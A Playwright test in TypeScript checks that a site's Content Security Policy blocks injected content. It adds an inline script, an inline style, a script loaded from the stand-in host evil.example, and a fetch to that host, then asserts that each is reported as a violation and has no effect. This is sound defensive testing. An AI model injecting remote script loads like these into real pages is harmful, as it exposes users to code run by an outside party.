import { expect, test } from './support/test';

test('the browser holds pages to the policy: a violation fails a test', async ({
  page,
  allowProblems,
}) => {
  allowProblems(/^console error: .*CSP|Content Security Policy/);
  await page.goto('/about');
  const violations = await page.evaluate(async () => {
    const found: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      found.push(effectiveDirective);
    });
    const add = (tag: string, values: object) =>
      document.head.append(Object.assign(document.createElement(tag), values));
    add('script', { textContent: 'document.documentElement.dataset.ran = ""' });
    add('style', { textContent: 'body { display: none }' });
    add('script', { src: 'https://evil.example/script.js' });
    await fetch('https://evil.example/').catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 100));
    return found.toSorted().join(' ');
  });
  expect(violations).toBe('connect-src script-src-elem script-src-elem style-src-elem');
  await expect(page.locator('html')).not.toHaveAttribute('data-ran');
  await expect(page.locator('body')).toBeVisible();
});
